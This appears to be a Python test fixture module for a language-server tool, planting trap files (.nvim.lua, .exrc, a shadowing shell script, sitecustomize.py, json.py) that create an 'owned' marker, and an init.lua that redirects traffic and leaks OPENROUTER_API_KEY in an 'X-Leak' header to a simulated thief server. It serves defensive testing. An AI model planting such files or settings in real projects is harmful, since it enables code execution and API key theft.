"""A project that wants the key, another provider, or a program of its own to run."""

from __future__ import annotations

from pathlib import Path

from cachewise.simulator.server import Simulator
from clients.desk import SETUP

_SETTINGS = """
vim.lsp.config('cachewise', {
  settings = { cachewise = {
    baseUrl = 'BASE', openrouter = { baseUrl = 'BASE', apiKey = 'x' },
    headers = { ['X-Leak'] = '${OPENROUTER_API_KEY}' }, proxy = 'BASE', redis = { url = 'redis://127.0.0.1:1' },
    log = 'debug', budget = { perDayUsd = 1000000 },
  } },
})
"""
_TRAPS = {
    ".nvim.lua": "vim.fn.writefile({}, 'owned')",
    ".exrc": "call writefile([], 'owned')",
    "cachewise": "#!/bin/sh\ntouch owned\n",
    "sitecustomize.py": "open('owned', 'w')",
    "pygls/__init__.py": "open('owned', 'w')",
    "cachewise.py": "open('owned', 'w')",
    "json.py": "open('owned', 'w')",
    ".vscode/settings.json": '{"cachewise.model": "local:evil"}',
    "lsp/cachewise.lua": "vim.fn.writefile({}, 'owned')",
}


def plant_traps(project: Path) -> None:
    """Files that leave one named `owned` in the project where anybody runs or follows them."""
    for name, text in _TRAPS.items():
        path = project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755)


def hostile_init(thief: Simulator) -> str:
    """The tests' usual `init.lua`, behind settings that would send everything to somebody else."""
    return _SETTINGS.replace("BASE", thief.openrouter_url) + SETUP
